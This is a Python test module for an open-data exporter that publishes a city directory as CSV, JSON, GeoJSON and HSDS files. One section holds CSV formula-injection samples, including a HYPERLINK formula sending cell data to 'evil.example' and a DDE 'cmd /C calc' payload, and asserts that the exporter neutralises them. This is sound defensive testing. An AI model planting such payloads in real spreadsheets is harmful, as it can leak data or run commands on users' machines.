"""The open-data files, read back with readers that are not ours: the csv module's Excel
dialect, the geojson package, jsonschema against the fields HSDS 3.0 documents.

Expectations come from the YAML files (read with PyYAML, not our loader or model), and
coordinates from prcoords, an independent implementation of the GCJ-02 conversion.
"""

from __future__ import annotations

import csv
import dataclasses as dc
import datetime as dt
import io
import json
import re
from pathlib import Path
from urllib.parse import unquote

import geojson
import jsonschema
import prcoords
import pytest
import yaml

from generator import opendata
from generator.model import build_directory
from generator.gate import read_locale
from generator.validate import validate

from .conftest import BUILD_ENV, DEMO, DEMO_DATA, FIXTURES, ROOT, site_url, soup

DATA = DEMO_DATA
URL = site_url()
KINDS = ("points", "projects", "cases")
TOLERANCE = 2e-5  # degrees, about 2 m: prcoords' inverse and ours iterate differently


def _yaml(path: Path):
    return yaml.safe_load(path.read_text(encoding="utf-8"))


def _records(kind: str, data_dir: Path = DATA) -> dict[str, dict]:
    return {path.stem: _yaml(path) for path in sorted((data_dir / kind).glob("*.yml"))}


def _terms(taxonomy: str) -> dict[str, str]:
    return {term["id"]: term["name"] for term in _yaml(DATA / "taxonomies" / f"{taxonomy}.yml")}


def _wgs84(point: dict) -> tuple[float, float] | None:
    """A point's published (lat, lng): awarded points with coordinates only."""
    where = point["location"].get("coordinates")
    if point["status"] != "awarded" or not where:
        return None
    if where["system"] == "wgs84":
        return where["lat"], where["lng"]
    convert = {"gcj02": prcoords.gcj_wgs_bored, "bd09": prcoords.bd_wgs_bored}[where["system"]]
    theirs = convert((where["lat"], where["lng"]))
    return theirs.lat, theirs.lon


def _csv(site: Path, kind: str) -> list[dict[str, str]]:
    """A CSV file as Excel reads it; columns by their machine name (the bracketed part)."""
    with open(site / "open-data" / f"{kind}.csv", "rb") as raw:
        rows = list(csv.reader(io.TextIOWrapper(raw, encoding="utf-8-sig", newline=""),
                               dialect="excel"))
    # a city's own field's heading may use full-width brackets and digits: 人数（staff2）
    names = [re.fullmatch(r".+[(（]([a-z_0-9]+)[)）]", heading).group(1) for heading in rows[0]]
    return [dict(zip(names, row, strict=True)) for row in rows[1:]]


def _json(site: Path, path: str):
    return json.loads((site / "open-data" / path).read_text(encoding="utf-8"))


@pytest.mark.parametrize("kind", KINDS)
def test_csv_is_utf8_with_a_bom_and_crlf_one_row_per_record(demo_site, kind):
    raw = (demo_site / "open-data" / f"{kind}.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    assert raw.count(b"\n") == raw.count(b"\r\n") > 0
    records = _records(kind)
    rows = _csv(demo_site, kind)
    assert sorted(row["id"] for row in rows) == sorted(records)
    title = "title" if kind == "cases" else "name"
    for row in rows:
        assert row[title] == records[row["id"]][title]
        assert row["url"] == f"{URL}{kind}/{row['id']}/"


def test_points_csv_has_term_names_status_and_wgs84_positions(demo_site):
    points, fields, districts = _records("points"), _terms("fields"), _terms("districts")
    platforms = _terms("platforms")
    for row in _csv(demo_site, "points"):
        point = points[row["id"]]
        assert row["status"] == point["status"]
        assert row["field"] == point["field"] and row["field_name"] == fields[point["field"]]
        district = point["location"]["district"]
        assert row["district"] == district and row["district_name"] == districts[district]
        assert row["platforms"].split("|") == (point.get("platforms") or [""])
        assert row["platform_names"].split("|") == [platforms[p] for p in point.get("platforms", [])] \
            or not point.get("platforms")
        expected = _wgs84(point)
        if expected is None:
            assert row["lat"] == row["lon"] == ""
            assert row["hours"] == row["booking_phone"] == ""
        else:
            assert abs(float(row["lat"]) - expected[0]) < TOLERANCE
            assert abs(float(row["lon"]) - expected[1]) < TOLERANCE


@pytest.mark.parametrize("kind", KINDS)
def test_json_has_a_header_and_every_record_as_published(demo_site, kind):
    data = _json(demo_site, f"{kind}.json")
    records = _records(kind)
    stamp = dt.datetime.fromtimestamp(int(BUILD_ENV["SOURCE_DATE_EPOCH"]), dt.timezone.utc)
    assert data["generated"] == stamp.strftime("%Y-%m-%dT%H:%M:%SZ")
    assert data["source"] == URL and data["publisher"] == _yaml(DATA / "site.yml")["bureau"]
    assert data["count"] == len(records) == len(data[kind])
    assert {r["id"] for r in data[kind]} == set(records)
    for record in data[kind]:
        assert record["summary"] == records[record["id"]]["summary"]
        assert record["url"] == f"{URL}{kind}/{record['id']}/"
        assert "source_file" not in record


def test_points_json_publishes_wgs84_positions_and_no_visit_of_delisted_points(demo_site):
    points = _records("points")
    for record in _json(demo_site, "points.json")["points"]:
        point = points[record["id"]]
        assert "coordinates" not in record["location"]  # the editor's system is not published
        expected = _wgs84(point)
        if expected is None:
            assert "wgs84" not in record["location"]
            if point["status"] == "delisted":
                assert "visit" not in record
        else:
            assert abs(record["location"]["wgs84"]["lat"] - expected[0]) < TOLERANCE
            assert abs(record["location"]["wgs84"]["lng"] - expected[1]) < TOLERANCE


def test_geojson_is_valid_rfc7946_lon_lat_in_the_city(demo_site):
    text = (demo_site / "open-data" / "points.geojson").read_text(encoding="utf-8")
    collection = geojson.loads(text)
    assert collection.is_valid, collection.errors()
    assert collection["type"] == "FeatureCollection"
    assert '"crs"' not in text  # RFC 7946 dropped the member: WGS-84 always
    bbox = _yaml(DATA / "site.yml")["region"]["bbox"]
    points = _records("points")
    expected = {id_: _wgs84(p) for id_, p in points.items() if _wgs84(p)}
    assert {f["id"] for f in collection["features"]} == set(expected)
    for feature in collection["features"]:
        lon, lat = feature["geometry"]["coordinates"]
        assert bbox["west"] <= lon <= bbox["east"] and bbox["south"] <= lat <= bbox["north"]
        assert abs(lat - expected[feature["id"]][0]) < TOLERANCE
        assert abs(lon - expected[feature["id"]][1]) < TOLERANCE
        for value in (lon, lat):
            assert len(repr(value).partition(".")[2]) <= 6
        props = feature["properties"]
        point = points[feature["id"]]
        assert props["name"] == point["name"] and props["status"] == "awarded"
        assert props["address"] == point["location"]["address"]
        assert props["url"] == f"{URL}points/{feature['id']}/"
    for number in re.findall(r"-?\d+\.\d+", text):
        assert len(number.partition(".")[2]) <= 6, number


# The fields HSDS 3.0 requires and the types it documents (openreferral/specification,
# schema/*.json): no package on PyPI ships these schemas for our Python (hsds-validator
# needs 3.13), so the tables' own "required" lists and property types are restated here.
_UUID = {"type": "string", "format": "uuid"}
_TEXT = {"type": "string"}
_HSDS = {
    "organizations": {"required": ["id", "name", "description"], "properties": {
        "id": _UUID, "name": _TEXT, "description": _TEXT, "website": {"type": "string",
                                                                    "format": "uri"},
        "legal_status": _TEXT}},
    "locations": {"required": ["id", "location_type"], "properties": {
        "id": _UUID, "location_type": {"enum": ["physical", "postal", "virtual"]},
        "organization_id": _UUID, "name": _TEXT, "description": _TEXT, "transportation": _TEXT,
        "latitude": {"type": "number"}, "longitude": {"type": "number"},
        "addresses": {"type": "array", "items": {
            "required": ["id", "address_1", "city", "state_province", "postal_code",
                         "country", "address_type"],
            "properties": {"id": _UUID, "location_id": _UUID, "address_1": _TEXT,
                           "city": _TEXT, "region": _TEXT, "state_province": _TEXT,
                           "postal_code": _TEXT, "country": {"type": "string",
                                                             "pattern": "^[A-Z]{2}$"},
                           "address_type": {"enum": ["physical", "postal", "virtual"]}}}}}},
    "services": {"required": ["id", "name", "status"], "properties": {
        "id": _UUID, "organization_id": _UUID, "name": _TEXT, "description": _TEXT,
        "url": {"type": "string", "format": "uri"}, "email": {"type": "string", "format": "email"},
        "status": {"enum": ["active", "inactive", "defunct", "temporarily closed"]},
        "application_process": _TEXT}},
    # the JSON schema requires the id only; its tabular form also both links
    "service_at_locations": {"required": ["id", "service_id", "location_id"], "properties": {
        "id": _UUID, "service_id": _UUID, "location_id": _UUID, "description": _TEXT}},
    "phones": {"required": ["id", "number"], "properties": {
        "id": _UUID, "service_at_location_id": _UUID, "number": _TEXT,
        "extension": {"type": "number"},
        # "drawing from the RFC6350 list of types"; its MySQL schema makes it an enum
        "type": {"enum": ["text", "voice", "fax", "cell", "video", "pager", "textphone"]},
        "description": _TEXT}},
    "schedules": {"required": ["id"], "properties": {
        "id": _UUID, "service_id": _UUID, "location_id": _UUID, "service_at_location_id": _UUID,
        "freq": {"enum": ["WEEKLY", "MONTHLY"]}, "interval": {"type": "number"},
        "byday": {"type": "string", "pattern": r"^(MO|TU|WE|TH|FR|SA|SU)(,(MO|TU|WE|TH|FR|SA|SU))*$"},
        # HH:MM with the offset from UTC, as the spec asks
        "opens_at": {"type": "string", "pattern": r"^\d\d:\d\d[+-]\d\d:\d\d$"},
        "closes_at": {"type": "string", "pattern": r"^\d\d:\d\d[+-]\d\d:\d\d$"},
        "timezone": {"type": "number"}, "notes": _TEXT}},
}


@pytest.mark.parametrize("table", list(_HSDS))
def test_hsds_tables_have_the_fields_the_spec_requires(demo_site, table):
    schema = {"type": "array", "items": {"type": "object", **_HSDS[table],
                                         "additionalProperties": False}}
    rows = _json(demo_site, f"hsds/{table}.json")
    jsonschema.Draft202012Validator(schema, format_checker=jsonschema.FormatChecker()).validate(rows)
    assert len({row["id"] for row in rows}) == len(rows)


def _time(value) -> str:
    """An opening time as written; PyYAML reads an unquoted 9:30 as 570 (YAML 1.1)."""
    return value if isinstance(value, str) else f"{value // 60:02d}:{value % 60:02d}"


def test_hsds_has_every_awarded_point_linked_with_its_weekly_hours(demo_site):
    tables = {name: _json(demo_site, f"hsds/{name}.json") for name in _HSDS}
    awarded = {id_: p for id_, p in _records("points").items() if p["status"] == "awarded"}
    services = {s["url"]: s for s in tables["services"]}
    assert set(services) == {f"{URL}points/{id_}/" for id_ in awarded}
    organizations = {o["id"]: o["name"] for o in tables["organizations"]}
    locations = {loc["id"]: loc for loc in tables["locations"]}
    byday = {"mon": "MO", "tue": "TU", "wed": "WE", "thu": "TH", "fri": "FR", "sat": "SA",
             "sun": "SU"}
    for id_, point in awarded.items():
        service = services[f"{URL}points/{id_}/"]
        assert organizations[service["organization_id"]] == point["organisation"]["name"]
        assert service["status"] == "active"
        [at] = [a for a in tables["service_at_locations"] if a["service_id"] == service["id"]]
        # a row's foreign keys mean "or": these are the hours of this visit at this venue
        mine = [s for s in tables["schedules"] if s["service_at_location_id"] == at["id"]]
        assert all([key for key in s if key.endswith("_id")] == ["service_at_location_id"]
                   for s in mine)
        hours = (point.get("visit") or {}).get("hours") or []
        assert [(s["byday"], s["opens_at"], s["closes_at"]) for s in mine] == [
            (",".join(byday[d] for d in byday if d in h["days"]), _time(h["open"]) + "+08:00",
             _time(h["close"]) + "+08:00") for h in hours]
        if mine:
            location = locations[at["location_id"]]
            assert location["name"] == point["name"]
            assert location["addresses"][0]["address_1"] == point["location"]["address"]


def _booking_phone(point: dict) -> str | None:
    """The booking telephone as the page shows it: spaces and brackets dropped."""
    phone = ((point.get("visit") or {}).get("booking") or {}).get("phone")
    return re.sub(r"[\s()()]", "", str(phone)) if phone is not None else None


def test_hsds_offers_each_service_at_its_location_with_its_booking_phone(demo_site):
    tables = {name: _json(demo_site, f"hsds/{name}.json") for name in _HSDS}
    awarded = {id_: p for id_, p in _records("points").items() if p["status"] == "awarded"}
    services = {s["url"]: s for s in tables["services"]}
    locations = {loc["id"]: loc for loc in tables["locations"]}
    assert len(tables["service_at_locations"]) == len(awarded)
    phoned = 0
    for id_, point in awarded.items():
        service = services[f"{URL}points/{id_}/"]
        [at] = [a for a in tables["service_at_locations"] if a["service_id"] == service["id"]]
        location = locations[at["location_id"]]
        assert location["name"] == point["name"]
        assert location["addresses"][0]["address_1"] == point["location"]["address"]
        assert location["organization_id"] == service["organization_id"]
        mine = [p for p in tables["phones"] if p.get("service_at_location_id") == at["id"]]
        written = _booking_phone(point)
        if written is None:
            assert mine == []
            continue
        [phone] = mine
        phoned += 1
        # a phone row's foreign keys mean "or": the booking line is this visit's only
        assert [key for key in phone if key.endswith("_id")] == ["service_at_location_id"]
        with_extension = re.fullmatch(r"(0\d+-?\d{7,8})-(\d+)", written)
        number, extension = with_extension.groups() if with_extension else (written, "")
        assert phone.get("extension") == (int(extension) if extension else None)
        mobile = re.fullmatch(r"1[3-9]\d{9}", number)
        if number.startswith("0") or mobile:  # E.164: country code 86, trunk prefix 0 dropped
            assert phone["number"].startswith("+86 ")
            assert re.sub(r"\D", "", phone["number"]) == "86" + re.sub(r"\D", "", number).removeprefix("0")
            assert phone["type"] == ("cell" if mobile else "voice")
        else:  # a 400 number or a hotline: no international form
            assert (phone["number"], phone["type"]) == (number, "voice")
    assert phoned == len(tables["phones"]) > 0


@pytest.mark.parametrize("written, expected", [
    ("0755-12345678", {"number": "+86 755-12345678", "type": "voice"}),
    ("010-12345678-801", {"number": "+86 10-12345678", "type": "voice", "extension": 801}),
    ("13912345678", {"number": "+86 13912345678", "type": "cell"}),
    ("400-123-4567", {"number": "400-123-4567", "type": "voice"}),
    ("12345", {"number": "12345", "type": "voice"}),
])
def test_hsds_phone_numbers_are_e164_where_they_can_be_dialled_from_abroad(written, expected):
    from generator.opendata import e164

    assert e164(written) == expected


def test_hsds_every_id_reference_resolves_and_delisted_points_are_absent(demo_site):
    tables = {name: _json(demo_site, f"hsds/{name}.json") for name in _HSDS}
    ids = {name: {row["id"] for row in rows} for name, rows in tables.items()}
    checked = 0
    for name, rows in tables.items():
        for row in rows:
            nested = [(name, row)] + [("addresses", a) for a in row.get("addresses", [])]
            for table, item in nested:
                for key, value in item.items():
                    if key.endswith("_id"):
                        assert value in ids[key[:-3] + "s"], (table, key, value)
                        checked += 1
    assert checked > 0
    text = "".join((demo_site / "open-data" / "hsds" / f"{name}.json").read_text("utf-8")
                   for name in _HSDS)
    numbers = {re.sub(r"\D", "", phone["number"]) for phone in tables["phones"]}
    delisted = {id_: p for id_, p in _records("points").items() if p["status"] == "delisted"}
    assert any(_booking_phone(p) for p in delisted.values())  # or this tests little
    for id_, point in delisted.items():  # their pages hide the visit: so do the files
        assert f"{URL}points/{id_}/" not in text
        assert point["location"]["address"] not in text
        phone = _booking_phone(point)
        if phone:
            assert "86" + re.sub(r"\D", "", phone)[1:] not in numbers


def test_data_page_lists_every_file_with_its_size_and_count_and_links_resolve(demo_site):
    page = soup(demo_site, "open-data/")
    rows = page.select("table.sc-downloads tbody tr")
    files = sorted(p.relative_to(demo_site / "open-data").as_posix()
                   for p in (demo_site / "open-data").rglob("*") if p.suffix != ".html"
                   and p.is_file())
    folder = (demo_site / "open-data").resolve()
    targets = [(folder / unquote(row.select_one("a")["href"])).resolve() for row in rows]
    assert sorted(t.relative_to(folder).as_posix() for t in targets) == files
    for row, target in zip(rows, targets):
        link = target.relative_to(folder).as_posix()
        assert int(row["data-size"]) == target.stat().st_size
        content = json.loads(target.read_text("utf-8-sig")) if not link.endswith(".csv") \
            else None
        if content is None:
            expected = len(_csv(demo_site, link[:-4]))
        elif link.endswith(".geojson"):
            expected = len(content["features"])
        elif isinstance(content, list):
            expected = len(content)
        else:
            expected = content["count"]
        assert int(row["data-records"]) == expected, link
    for anchor in page.select("article a[href]"):
        href = anchor["href"]
        if href.startswith(("#", "http")):
            continue
        target = (demo_site / "open-data" / unquote(href.split("#")[0])).resolve()
        assert target.is_file() or (target / "index.html").is_file(), href


def test_data_dictionary_names_every_published_field_and_column(demo_site):
    page = soup(demo_site, "open-data/")
    text = page.select_one("article").get_text()
    codes = {code.get_text() for code in page.select("table.sc-reference code")}
    for kind in KINDS:
        for record in _json(demo_site, f"{kind}.json")[kind]:
            assert set(record) <= codes, kind
        with open(demo_site / "open-data" / f"{kind}.csv", encoding="utf-8-sig") as stream:
            for heading in next(csv.reader(stream)):
                assert heading in text
    assert "location.wgs84.lat" in codes and "location.coordinates" not in codes


def _licence(folder: Path = DEMO) -> dict | None:
    return _yaml(folder / "data" / "site.yml").get("data_licence")


def test_json_and_geojson_files_carry_the_licence_and_publisher(demo_site):
    licence = _licence()
    assert licence and licence["url"].startswith("https://")  # the demo declares one
    bureau = _yaml(DATA / "site.yml")["bureau"]
    for name in [f"{kind}.json" for kind in KINDS] + ["points.geojson"]:
        data = _json(demo_site, name)
        assert data["license"] == {"name": licence["name"], "url": licence["url"]}, name
        assert data["publisher"] == bureau and data["source"] == URL
    # RFC 7946 allows foreign members on the FeatureCollection: still valid GeoJSON
    collection = geojson.loads((demo_site / "open-data" / "points.geojson").read_text("utf-8"))
    assert collection.is_valid and collection["type"] == "FeatureCollection"
    for table in _HSDS:  # HSDS files stay bare arrays, as HSDS has them
        assert isinstance(_json(demo_site, f"hsds/{table}.json"), list)


def test_data_page_states_the_licence_with_its_link_and_who_publishes(demo_site):
    licence, bureau = _licence(), _yaml(DATA / "site.yml")["bureau"]
    paragraph = soup(demo_site, "open-data/").select_one("article p.sc-licence")
    link = paragraph.select_one('a[rel="license"]')
    assert (link["href"], link.get_text()) == (licence["url"], licence["name"])
    assert f"由{bureau}发布" in paragraph.get_text()


def test_without_a_licence_the_page_says_so_and_whom_to_ask(fixture_site):
    site = _yaml(FIXTURES / "city" / "data" / "site.yml")
    assert "data_licence" not in site  # the fixture city declares none
    paragraph = soup(fixture_site, "open-data/").select_one("article p.sc-licence")
    assert paragraph.select_one("a") is None
    text = paragraph.get_text()
    assert "尚未声明" in text and f"请先向{site['bureau']}咨询" in text
    for name in ("points.json", "points.geojson"):
        assert "license" not in _json(fixture_site, name)
    assert "license" not in _dataset(fixture_site)


def test_the_licence_comes_from_site_yml_whatever_it_is(tmp_path):
    """Any licence the city declares, not one the code knows: the fixture city's data
    with a made-up one, through the open-data files and the Dataset description."""
    import dataclasses as dc

    from generator.model import build_directory
    from generator.schema import DataLicence
    from generator.structured import dataset_graph
    from generator.opendata import open_data
    from generator.validate import validate

    validated, issues = validate(FIXTURES / "city" / "data", tmp_path)
    assert not issues
    licence = DataLicence(name="某市政府数据开放许可", url="https://data.example.org/licence")
    site = dc.replace(validated.site, data_licence=licence)
    directory = build_directory(dc.replace(validated, site=site))
    stamp = dt.datetime(2025, 1, 1, tzinfo=dt.timezone.utc)
    columns = _yaml(ROOT / "theme" / "locales" / "zh-CN.yml")["opendata"]["columns"]
    files, downloads = open_data(directory, URL, stamp, columns)
    for name in ("open-data/points.json", "open-data/points.geojson"):
        assert json.loads(files[name])["license"] == {"name": licence.name, "url": licence.url}
    graph = dataset_graph(site, page_url=f"{URL}open-data/", public_url=URL, name="n",
                          description="d", downloads=downloads,
                          kind_names={k: k for k in ("points", "projects", "cases", "hsds")},
                          years=[2024], modified=dt.date(2025, 1, 1))
    assert graph["license"] == licence.url and graph["temporalCoverage"] == "2024"


def _dataset(site: Path) -> dict:
    scripts = soup(site, "open-data/").select('script[type="application/ld+json"]')
    assert len(scripts) == 1
    return json.loads(scripts[0].string)


def test_data_page_describes_the_dataset_and_every_download_in_json_ld(demo_site):
    dataset, site = _dataset(demo_site), _yaml(DATA / "site.yml")
    assert (dataset["@context"], dataset["@type"]) == ("https://schema.org", "Dataset")
    assert site["programme"]["title"] in dataset["name"] and len(dataset["description"]) >= 50
    assert dataset["url"] == f"{URL}open-data/"
    assert dataset["license"] == site["data_licence"]["url"]
    bureau = {"@type": "GovernmentOrganization", "name": site["bureau"]}
    assert dataset["creator"] == dataset["publisher"] == bureau
    assert dataset["spatialCoverage"]["name"] == site["region"]["name"]
    box = site["region"]["bbox"]
    assert dataset["spatialCoverage"]["geo"]["box"].split() == [
        str(box[side]) for side in ("south", "west", "north", "east")]
    years = [p["award"]["year"] for p in _records("points").values()] + [
        r["year"] for kind in ("projects", "cases") for r in _records(kind).values()]
    assert dataset["temporalCoverage"] == f"{min(years)}/{max(years)}"
    china = dt.timezone(dt.timedelta(hours=8))
    built = dt.datetime.fromtimestamp(int(BUILD_ENV["SOURCE_DATE_EPOCH"]), china).date()
    assert dataset["dateModified"] == built.isoformat()
    media = {".csv": "text/csv", ".json": "application/json", ".geojson": "application/geo+json"}
    files = sorted(p.relative_to(demo_site).as_posix()
                   for p in (demo_site / "open-data").rglob("*") if p.is_file()
                   and p.suffix != ".html")
    landed = []
    for download in dataset["distribution"]:
        assert download["@type"] == "DataDownload"
        url = download["contentUrl"]
        assert url.startswith(URL), url  # absolute, under site_url
        target = demo_site / unquote(url[len(URL):])
        assert target.is_file(), url
        assert download["encodingFormat"] == media[target.suffix]
        landed.append(target.relative_to(demo_site).as_posix())
    assert sorted(landed) == files


def test_data_page_is_in_the_nav(demo_site):
    nav = soup(demo_site, "").select("nav a")
    assert any(a.get_text(strip=True) == "开放数据" for a in nav)


def test_points_without_coordinates_are_left_out_of_the_map_file_and_counted(fixture_site):
    points = _records("points", FIXTURES / "city" / "data")
    awarded = [id_ for id_, p in points.items() if p["status"] == "awarded"]
    placed = [id_ for id_ in awarded if points[id_]["location"].get("coordinates")]
    assert len(placed) < len(awarded)  # the fixture has one without, or this tests nothing
    features = _json(fixture_site, "points.geojson")["features"]
    assert sorted(f["id"] for f in features) == sorted(placed)
    counted = soup(fixture_site, "open-data/").select_one(".sc-map-count").get_text()
    assert f"另有 {len(awarded) - len(placed)} 个" in counted


# --- spreadsheet formulas: every cell is shown, never computed (issue 14) ---------------------

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), dialect="excel"))


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize("value, cell", [
    ('=HYPERLINK（"https://evil.example","点我"）', '\'=HYPERLINK（"https://evil.example","点我"）'),
    ("+86 755 1234 5678", "'+86 755 1234 5678"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("'=1+1", "''=1+1"),  # a leading ' is written doubled: taking one off is always right
    ("0755-83021847", "0755-83021847"),
    ("深圳 =1+1", "深圳 =1+1"),  # only a cell's first character makes a formula
    (["=cmd|' /C calc'!A0", "b"], "'=cmd|' /C calc'!A0|b"),  # a list is one cell
    (-12.5, "-12.5"),  # a number written as a number stays a number
    (2024, "2024"),
    (None, ""),
    (True, "true"),
])
def test_a_cell_a_spreadsheet_would_compute_gains_a_leading_quote(value, cell):
    assert opendata.csv_cell(value) == cell
    assert _cells(opendata.csv_bytes(["=h"], [[value]])) == [["'=h"], [cell]]


def test_every_cell_of_the_csv_files_is_shown_as_text():
    """The demo in memory, with a formula in text fields of each kind (validation would
    refuse some of these; the writer must not rely on it)."""
    validated, issues = validate(DATA, ROOT)
    assert not issues
    directory = build_directory(validated)
    hostile = "=HYPERLINK（\"https://evil.example/?\"&A1,\"详情\"）"
    point, *points = directory.points
    point = dc.replace(point, name=hostile, summary="+86 755", organisation=dc.replace(
        point.organisation, name="@SUM(1,1)"), location=dc.replace(
        point.location, street="-1+1", address="\t=1"))
    project, *projects = directory.projects
    case, *cases = directory.cases
    directory = dc.replace(  # the indexes made again
        directory, points=[point, *points],
        projects=[dc.replace(project, organisation="\r=2"), *projects],
        cases=[dc.replace(case, title=hostile, organisations=("=a", "b")), *cases])
    headings = read_locale(ROOT / "theme" / "locales", "zh-CN")["opendata"]["columns"]
    files, _ = opendata.open_data(directory, URL, dt.datetime(2024, 11, 23, tzinfo=dt.timezone.utc),
                                  headings)
    rows = {kind: _cells(files[f"open-data/{kind}.csv"]) for kind in KINDS}
    for kind, table in rows.items():
        for row in table:
            for cell in row:
                assert not cell.startswith(FORMULA_STARTS) or _is_number(cell), (kind, cell)
    point_row = next(row for row in rows["points"] if row[0] == point.id)
    for value in (hostile, "+86 755", "@SUM(1,1)", "-1+1", "\t=1"):
        assert "'" + value in point_row
    assert "'\r=2" in rows["projects"][1]
    assert {"'" + hostile, "'=a|b"} <= set(rows["cases"][1])


def test_the_data_page_says_how_cells_are_written(demo_site):
    strings = read_locale(ROOT / "theme" / "locales", "zh-CN")["opendata"]
    page = soup(demo_site, "open-data/")
    dictionary = page.find(id="dictionary")
    assert dictionary.find_next("p").find_next("p").get_text() == strings["csv_cells"]
    for word in ("=", "+", "-", "@", "制表符", "回车", "单引号"):
        assert word in strings["csv_cells"]


# --- a delisted point publishes no visiting arrangements, in any file (issue 14) --------------


def test_no_file_holds_a_delisted_point_visiting_arrangements(demo_site):
    """Its record in points.json and its row in points.csv; GeoJSON and HSDS leave the
    point out altogether (tested above)."""
    records = {r["id"]: json.dumps(r, ensure_ascii=False)
               for r in _json(demo_site, "points.json")["points"]}
    rows = {row["id"]: "\n".join(row.values()) for row in _csv(demo_site, "points")}
    statuses = set()
    for id_, point in _records("points").items():
        visit = point.get("visit") or {}
        booking = visit.get("booking") or {}
        texts = [text for text in (visit.get("closed_note"), visit.get("accessibility"),
                                   visit.get("directions"), booking.get("note"),
                                   booking.get("phone"), booking.get("wechat"),
                                   booking.get("email"), booking.get("url")) if text]
        statuses.add((point["status"], bool(texts)))
        found = [text for text in texts if text in records[id_] + rows[id_]]
        assert found == ([] if point["status"] == "delisted" else texts), id_
    assert {("delisted", True), ("awarded", True)} <= statuses  # the test can fail
